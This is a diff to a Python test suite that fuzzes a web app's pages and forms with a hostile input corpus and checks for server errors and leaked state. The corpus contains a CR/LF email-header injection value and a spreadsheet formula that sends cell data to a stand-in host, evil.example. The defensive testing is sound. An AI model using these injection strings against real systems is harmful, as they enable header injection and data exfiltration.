@@ -33,13 +33,16 @@ CORPUS = {
     "-1": "-1",
     "year 1": "0001-01-01T00:00:00+01:00",
     "year 9999": "9999-12-31T23:00:00-01:00",
-    "100k-deep nesting": NESTED,
     "CR/LF": "Notebooks\r\nBcc: x@evil.example",
     "formula": '=HYPERLINK("https://evil.example/?"&A1,"click")',
-    "1 MB": "x" * 1_000_000,
 }
+# The large values go into every field of a request at once: one request each per URL keeps
+# the run bounded (a megabyte per field per URL would be most of the suite's time).
+LARGE = {"100k-deep nesting": NESTED, "1 MB": "x" * 1_000_000}
 # In a JSON body the corpus is also typed: numbers and nesting, not only strings.
 JSON_CORPUS = {**CORPUS, "int 10**19": 10**19, "int -1": -1, "nested list": [[[[[]]]]]}
+# Whom the pages are asked as: everyone who sees an addon (owner2 and anon see none of it).
+VIEWERS = ("owner", "architect1", "lead", "sre", "manager")
 WRONG_BODIES = {
     "JSON to a form": ('{"a": 1}', "application/json"),
     "multipart without a boundary": ("a=1", "multipart/form-data"),
@@ -116,12 +119,16 @@ class Run:
             client.force_login(self.personas[persona])
         return client
 
-    def pages(self) -> dict[tuple[str, str], object]:
-        """(url name, persona) -> outcome of a GET, for every URL of this world."""
+    def pages(self, names=URL_NAMES) -> dict[tuple[str, str], object]:
+        """(url name, persona) -> outcome of a GET, for the URLs of this world that answer
+        the persona 200 (learning the forms they offer on the way)."""
         seen = {}
-        for name in URL_NAMES:
-            url = url_for(name, self.world)
-            for persona in PERSONAS:
+        for name in names:
+            try:
+                url = url_for(name, self.world)
+            except AttributeError:  # an object this world has not got (e.g. no checklist yet)
+                continue
+            for persona in [p for p in VIEWERS if MATRIX[name]["GET"][p] == 200]:
                 response = self.client(name, persona).get(url)
                 seen[(name, persona)] = outcome(response)
                 if response.status_code == 200 and "html" in response.get("Content-Type", ""):
@@ -162,7 +169,7 @@ class Run:
                 send(self.client(name, persona))
             for page in STORED_DATA_PAGES:
                 url = url_for(page, self.world)
-                for persona in PERSONAS:
+                for persona in VIEWERS:
                     status = self.client(page, persona).get(url).status_code
                     if status >= 500:
                         self.problems.append(
@@ -202,6 +209,14 @@ def _corpus_for_post(run, name, url):
                     persona,
                     lambda c, b=body: c.post(url, b, content_type="application/json"),
                 )
+        for label, value in LARGE.items():
+            body = json.dumps([{"start": value, "good": value, "total": value}])
+            run.check(
+                label,
+                name,
+                persona,
+                lambda c, b=body: c.post(url, b, content_type="application/json"),
+            )
         run.check(
             "deep body",
             name,
@@ -214,6 +229,9 @@ def _corpus_for_post(run, name, url):
             for label, value in CORPUS.items():
                 data = {**_form_data(name, run.world), field: value}
                 run.check(f"{field}={label}", name, persona, lambda c, d=data: c.post(url, d))
+        for label, value in LARGE.items():
+            data = {**_form_data(name, run.world), **dict.fromkeys(fields, value)}
+            run.check(f"every field={label}", name, persona, lambda c, d=data: c.post(url, d))
     for label, (body, content_type) in WRONG_BODIES.items():
         run.check(
             label, name, persona, lambda c, b=body, t=content_type: c.post(url, b, content_type=t)
@@ -226,6 +244,10 @@ def _corpus_for_get(run, name, url, api_params):
     for param in sorted(params):
         for label, value in CORPUS.items():
             run.check(f"?{param}={label}", name, persona, lambda c, p={param: value}: c.get(url, p))
+    if params:
+        # A megabyte in a query string is refused by the server in front; 100 KB here.
+        big = dict.fromkeys(params, "x" * 100_000)
+        run.check("?every parameter=100 KB", name, persona, lambda c: c.get(url, big))
 
 
 @pytest.mark.parametrize("state", STATES)
@@ -240,8 +262,8 @@ def test_the_hostile_corpus_gets_no_5xx_and_changes_nothing_it_refuses(state, ma
         _corpus_for_post(run, name, url)
         run.replay_accepted_then_render(name)
     # Every request was rolled back: nothing may have leaked (a cache, a session, a file).
-    after = run.pages()
-    changed = {key: (before[key], after[key]) for key in before if before[key] != after[key]}
+    after = run.pages(STORED_DATA_PAGES)
+    changed = {key: (before[key], after[key]) for key in after if before[key] != after[key]}
     assert not run.problems, "\n".join(run.problems)
     assert not changed, f"pages answer differently after the corpus: {changed}"
     assert not [k for k, v in after.items() if isinstance(v, int) and v >= 500]
